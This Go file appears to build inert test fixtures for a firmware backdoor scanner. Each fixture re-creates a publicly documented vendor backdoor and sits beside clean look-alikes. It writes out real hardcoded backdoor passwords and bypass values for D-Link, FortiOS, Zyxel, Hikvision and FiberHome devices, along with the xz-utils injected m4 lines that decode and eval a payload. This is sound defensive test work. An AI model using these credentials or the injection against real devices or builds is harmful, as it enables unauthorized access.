package corpus

import (
	"bytes"
	"encoding/binary"

	"github.com/doorman-sec/doorman/internal/fixture"
)

// Known-backdoor cases (rules DM-KBD-*): each re-creates one publicly
// documented vendor backdoor inertly - a tiny fake ELF daemon holding the
// strings the researchers published, or the script line that starts it -
// inside the kind of image the vendor ships, and a few clean look-alikes
// that must stay quiet. Nothing here runs: the "binaries" are an ELF
// header, string data and an empty section table.
func init() {
	for name, gen := range backdoorGenerators {
		if _, dup := Generators[name]; dup {
			panic("corpus: generator " + name + " defined twice")
		}
		Generators[name] = gen
	}
}

var backdoorGenerators = map[string]func(tmp string) (string, error){
	// D-Link DIR-100 style: the thttpd-based "webs" with the UA bypass.
	"kbd-dlink-roodkcab": squashfsCase("dir100.bin", 0x13, []fixture.File{
		daemon("bin/webs", "thttpd/2.25b", "alpha_auth_check", "User-Agent", "xmlset_roodkcableoj28840ybtide", "/public/", "tools_misc.xgi"),
		initScript("webs &"),
	}),
	// Tenda W302R: httpd with the MfgThread magic-packet listener.
	"kbd-tenda-w302r": squashfsCase("W302R_V3.1.192.bin", 0x21, []fixture.File{
		daemon("bin/httpd", "GoAhead-Webs", "MfgThread", "w302r_mfg", "iwpriv %s", "/goform/SysToolReboot"),
		initScript("httpd &"),
	}),
	// Netis WF2414: the igdmptd binary and the rcS line that starts it.
	"kbd-netis-igdmptd": squashfsCase("netis-wf2414.bin", 0x35, []fixture.File{
		daemon("bin/igdmptd", "IGD MPT Interface daemon 1.0", "Login:", "netcore", "53413"),
		daemon("bin/boa", "Boa/0.94.14rc21", "/home/httpd"),
		initScript("boa -c /etc/boa &", "igdmptd &"),
	}),
	// Xiongmai NVR: macGuarder with the port 9530 telnet unlock.
	"kbd-xiongmai-9530": squashfsCase("General_NVR_Nat_HI3520D.bin", 0x47, []fixture.File{
		daemon("usr/bin/macGuarder", "OpenTelnet:OpenOnce", "randNum:", "verify:OK", "/mnt/custom/TelnetOEMPasswd", "2wj9fsa2"),
		daemon("usr/bin/Sofia", "Sofia", "/mnt/mtd/Config"),
		initScript("/usr/bin/macGuarder &"),
	}),
	// Hikvision DS-2CD camera: the web service with the magic auth value.
	"kbd-hikvision-cve-2017-7921": squashfsCase("digicap.dav", 0x59, []fixture.File{
		daemon("home/app/davinci", "/ISAPI/Security/userCheck", "/Security/users", "auth", "YWRtaW46MTEK", "/System/configurationFile"),
		{Path: "home/app/config.ini", Data: []byte("[net]\nhttp_port=80\nrtsp_port=554\n")},
	}),
	// Zyxel USG: the zyfwp password in a binary, where EYE found it.
	"kbd-zyxel-zyfwp-binary": squashfsCase("usg40-zld460.bin", 0x6b, []fixture.File{
		daemon("usr/sbin/zyshd", "ZLD4.60", "zyfwp", "PrOw!aN_fXp", "/etc/zyxel/ftp/"),
	}),
	// FortiGate (FortiOS 5.0): sshd with the Fortimanager_Access secret.
	"kbd-fortios-ssh": initramfsCase("FGT_60C-v5-build0304.out", []fixture.File{
		daemon("bin/sshd", "SSH-2.0-FortiSSH", "Fortimanager_Access", "FGTAbc11*xy+Qqz27", "AK1"),
	}),
	// FortiGate SSL VPN: sslvpnd with the password-reset magic.
	"kbd-fortios-magic": initramfsCase("FGT_100D-v6-build0231.out", []fixture.File{
		daemon("bin/sslvpnd", "/remote/logincheck", "magic", "4tinet2095866", "credential2", "redir=/remote/hostcheck_install"),
	}),
	// ScreenOS is not Linux: one raw image whose data holds the string.
	"kbd-screenos-7755": func(tmp string) (string, error) {
		img := rawImage(0x7755, "ScreenOS 6.3.0r20", "auth_admin_internal", "<<< %s(un='%s') = %u", "system", "netscreen")
		return write(tmp, "ssg5-ssg20.6.3.0r20.0", img)
	},
	// TP-Link TL-WR740N: httpd registering the hidden debug pages.
	"kbd-tplink-debug": squashfsCase("wr740nv4_en_3_16_9.bin", 0x7f, []fixture.File{
		daemon("usr/bin/httpd", "httpDebugInit", "/userRpmNatDebugRpm26525557/start_art.html", "/userRpmNatDebugRpm26525557/linux_cmdline.html", "osteam", "art.ko"),
	}),
	// Arris TG862: the password-of-the-day library with the default seed.
	"kbd-arris-potd": squashfsCase("TG862G-9.1.103.bin", 0x91, []fixture.File{
		daemon("lib/libarris_password.so", "arris_password_of_the_day", "MPSJKMDHAI", "technician"),
	}),
	// Netgear R7000: telnetenabled.
	"kbd-netgear-telnetenable": squashfsCase("R7000-V1.0.9.88.chk", 0xa3, []fixture.File{
		daemon("usr/sbin/telnetenabled", "AMBIT_TELNET_ENABLE+", "lan_hwaddr", "http_passwd", "br0"),
	}),
	// ZTE F660: httpd serving web_shell_cmd.gch.
	"kbd-zte-web-shell": squashfsCase("ZXHN_F660_V2.30.bin", 0xb5, []fixture.File{
		daemon("bin/httpd", "/home/httpd", "web_shell_cmd.gch", "IF_ACTION", "CmdAck"),
	}),
	// ZTE ZXV10 W300 / ASUS DSL-N12E: the MAC-derived telnet password.
	"kbd-airocon": squashfsCase("ZXV10_W300.bin", 0xc7, []fixture.File{
		daemon("bin/cfgmgr", "telnet_passwd", "%c%c%c%cairocon", "public"),
	}),
	// Zyxel NAS326: remote_help-cgi creating NsaRescueAngel.
	"kbd-zyxel-nas-rescue": squashfsCase("NAS326_V5.21(AAZF.16)C0.bin", 0xd9, []fixture.File{
		daemon("usr/local/apache/web_framework/bin/remote_help-cgi", "remote_help", "NsaRescueAngel", "/usr/sbin/sshd"),
	}),
	// WD My Cloud: nas_sharing.cgi with the built-in login.
	"kbd-wd-mycloud": squashfsCase("My_Cloud_GLCR_2.21.119.bin", 0xeb, []fixture.File{
		daemon("var/www/cgi-bin/nas_sharing.cgi", "nas_sharing", "mydlinkBRionyg", "abc12345cba"),
	}),
	// Sony SNC camera: the web server with prima-factory.cgi.
	"kbd-sony-ipela": initramfsCase("SNC-CH120_1.82.01.bin", []fixture.File{
		daemon("usr/local/bin/webserver", "/command/inquiry.cgi", "/command/prima-factory.cgi", "gen5th"),
	}),
	// FiberHome HG6245D: the web server with the superadmin account.
	"kbd-fiberhome-superadmin": squashfsCase("HG6245D_RP2613.bin", 0xfd, []fixture.File{
		daemon("fh/bin/webs", "f~i!b@e#r$h%o^m*esuperadmin", "s(f)u_h+g|u", "/telnet?enable=1"),
	}),
	// SolarWinds Orion: a trojanized BusinessLayer assembly in an update zip.
	"kbd-sunburst": func(tmp string) (string, error) {
		dll := fakePE("SolarWinds.Orion.Core.BusinessLayer", "OrionImprovementBusinessLayer", "ZipHelper", "IsAlive")
		zip := fixture.Zip([]fixture.File{
			{Path: "Orion/SolarWinds.Orion.Core.BusinessLayer.dll", Data: dll},
			{Path: "Orion/readme.txt", Data: []byte("Orion Platform 2020.2.1 HF1\n")},
		})
		return write(tmp, "Orion-2020.2.1-HF1.zip", zip)
	},
	// xz-utils 5.6.1: the release tarball's build-to-host.m4. Inert: the
	// payload test file it would read is not there.
	"kbd-xz-3094": func(tmp string) (string, error) {
		tgz := fixture.Gzip(fixture.Tar([]fixture.File{
			{Path: "xz-5.6.1/m4/build-to-host.m4", Data: []byte(xzM4Head + xzM4Injected + xzM4Tail)},
			{Path: "xz-5.6.1/README", Data: []byte("XZ Utils\n========\n")},
		}))
		return write(tmp, "xz-5.6.1.tar.gz", tgz)
	},

	// Clean look-alikes: the same kinds of file without the backdoor, and
	// documentation quoting the indicators, which is text and stays quiet.
	"kbd-clean-dlink-httpd": squashfsCase("dir615.bin", 0x10f, []fixture.File{
		daemon("bin/webs", "thttpd/2.25b", "alpha_auth_check", "User-Agent", "Mozilla/5.0", "xmlset_", "/public/"),
		{Path: "usr/share/doc/webs/SECURITY.txt", Data: []byte("Fixed: CVE-2013-6026, requests with User-Agent xmlset_roodkcableoj28840ybtide no longer skip authentication.\n")},
		initScript("webs &"),
	}),
	"kbd-clean-hikvision-config": squashfsCase("digicap-5.5.0.dav", 0x121, []fixture.File{
		daemon("home/app/davinci", "/ISAPI/Security/userCheck", "/Security/users", "auth", "Digest", "/System/configurationFile"),
		{Path: "home/app/config.ini", Data: []byte("[net]\nhttp_port=80\n[auth]\nmethod=digest\n")},
		{Path: "home/app/release-notes.txt", Data: []byte("5.4.5: fixed CVE-2017-7921 (auth=YWRtaW46MTEK no longer accepted)\n")},
	}),
	"kbd-clean-fortios-sshd": initramfsCase("FGT_60E-v6-build1828.out", []fixture.File{
		daemon("bin/sshd", "SSH-2.0-OpenSSH_7.4", "keyboard-interactive", "publickey", "Fortimanager_Access"),
		{Path: "etc/release-notes.txt", Data: []byte("Resolved: FG-IR-16-001 (CVE-2016-1909, FGTAbc11*xy+Qqz27 challenge).\n")},
	}),
	"kbd-clean-netis-rcs": squashfsCase("netis-wf2419-fixed.bin", 0x133, []fixture.File{
		daemon("bin/boa", "Boa/0.94.14rc21", "/home/httpd"),
		initScript("boa -c /etc/boa &", "#igdmptd &", "kill -9 `pidof igdmptd` 2>/dev/null"),
	}),
	// A fuzzing helper embedding the Big List of Naughty Strings, which
	// quotes the ScreenOS password between its neighbours.
	"kbd-clean-blns-fuzzer": squashfsCase("fuzzkit.bin", 0x145, []fixture.File{
		daemon("usr/bin/fuzzkit", "() { _; } >_[$($())] { touch /tmp/blns.shellshock2.fail; }", "<<< %s(un='%s') = %u", "+++ATH0", "CON", "PRN"),
	}),
	"kbd-clean-xz-546": func(tmp string) (string, error) {
		tgz := fixture.Gzip(fixture.Tar([]fixture.File{
			{Path: "xz-5.4.6/m4/build-to-host.m4", Data: []byte(xzM4Head + xzM4Tail)},
			{Path: "xz-5.4.6/doc/cve-2024-3094.md", Data: []byte("The 5.6.x tarballs added:\n\n    gl_[$1]_config='sed \\\"r\\n\\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'\n\n5.4.6 never had it.\n")},
		}))
		return write(tmp, "xz-5.4.6.tar.gz", tgz)
	},
}

// The gnulib macro as released, and the lines 5.6.0/5.6.1 added to it.
const (
	xzM4Head = `# build-to-host.m4 serial 30
dnl Copyright (C) 2023-2024 Free Software Foundation, Inc.
AC_DEFUN([gl_BUILD_TO_HOST],
[
  AC_REQUIRE([AC_CANONICAL_BUILD])
  gl_final_[$1]="$[$1]"
`
	xzM4Injected = `  gl_[$1]_prefix=` + "`echo $gl_am_configmake | sed \"s/.*\\.//g\"`" + `
  if test "x$gl_am_configmake" != "x"; then
    gl_[$1]_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
  else
    gl_[$1]_config=''
  fi
`
	xzM4Tail = `  case "$build_os" in
    cygwin*) gl_final_[$1]=` + "`cygpath -w \"$gl_final_[$1]\"`" + ` ;;
  esac
])
`
)

// squashfsCase builds a vendor-style raw image: a uImage kernel at 0, a
// squashfs root at an odd offset (as carvers meet them), noise around.
func squashfsCase(name string, seed uint32, files []fixture.File) func(string) (string, error) {
	return func(tmp string) (string, error) {
		kernel := fixture.UImage("Linux-2.6.36", fixture.Gzip(bytes.Repeat([]byte("not a kernel\n"), 64)), 1)
		rootfs := fixture.Squashfs(files)
		off := int64(0x10000 + seed)
		img := fixture.Blob(off+int64(len(rootfs))+0x400, seed, fixture.Part{Offset: 0, Data: kernel}, fixture.Part{Offset: off, Data: rootfs})
		return write(tmp, name, img)
	}
}

// initramfsCase builds a gzip'd cpio root, as FortiOS and some cameras
// ship theirs.
func initramfsCase(name string, files []fixture.File) func(string) (string, error) {
	return func(tmp string) (string, error) {
		return write(tmp, name, fixture.Gzip(fixture.CpioNewc(files)))
	}
}

func initScript(lines ...string) fixture.File {
	var b bytes.Buffer
	b.WriteString("#!/bin/sh\nmount -a\n")
	for _, l := range lines {
		b.WriteString(l + "\n")
	}
	return fixture.File{Path: "etc/init.d/rcS", Mode: 0o755, Data: b.Bytes()}
}

// daemon is a fake executable at path whose read-only data holds strs.
func daemon(path string, strs ...string) fixture.File {
	return fixture.File{Path: path, Mode: 0o755, Data: mipsELF(strs...)}
}

// mipsELF returns a big-endian 32-bit MIPS ELF executable of the usual
// uClibc shape: a header, .rodata-like NUL-terminated strings, and an
// empty section header table that ends the file, so the ELF's own length
// is the file's and nothing after it is carved. It has no code: it is
// never run, only read.
func mipsELF(strs ...string) []byte {
	var body bytes.Buffer
	for _, s := range append([]string{"/lib/ld-uClibc.so.0", "libc.so.0"}, strs...) {
		body.WriteString(s)
		body.WriteByte(0)
	}
	body.WriteString("GCC: (GNU) 4.3.3\x00")
	for body.Len()%4 != 0 {
		body.WriteByte(0)
	}
	const ehsize, shentsize = 52, 40
	h := make([]byte, ehsize)
	copy(h, "\x7fELF\x01\x02\x01") // ELFCLASS32, big-endian, version 1
	be := binary.BigEndian
	be.PutUint16(h[16:], 2) // ET_EXEC
	be.PutUint16(h[18:], 8) // EM_MIPS
	be.PutUint32(h[20:], 1)
	be.PutUint32(h[24:], 0x00400000)                // e_entry
	be.PutUint32(h[32:], uint32(ehsize+body.Len())) // e_shoff
	be.PutUint16(h[40:], ehsize)                    // e_ehsize
	be.PutUint16(h[46:], shentsize)                 // e_shentsize
	be.PutUint16(h[48:], 1)                         // e_shnum: the null section
	out := append(h, body.Bytes()...)
	return append(out, make([]byte, shentsize)...)
}

// fakePE is the start of a .NET assembly: DOS and PE signatures and the
// metadata names; enough for a byte scanner, not for a loader.
func fakePE(names ...string) []byte {
	b := make([]byte, 0x80)
	copy(b, "MZ\x90\x00")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x40)
	copy(b[0x40:], "PE\x00\x00")
	b = append(b, "#Strings\x00<Module>\x00mscorlib\x00"...)
	for _, n := range names {
		b = append(b, n...)
		b = append(b, 0)
	}
	return b
}

// rawImage is a non-Linux firmware image (ScreenOS style): noise with the
// strings in a data section in the middle.
func rawImage(seed uint32, strs ...string) []byte {
	var data bytes.Buffer
	for _, s := range strs {
		data.WriteString(s)
		data.WriteByte(0)
	}
	const off = 0x8123
	return fixture.Blob(off+int64(data.Len())+0x2000, seed, fixture.Part{Offset: off, Data: data.Bytes()})
}
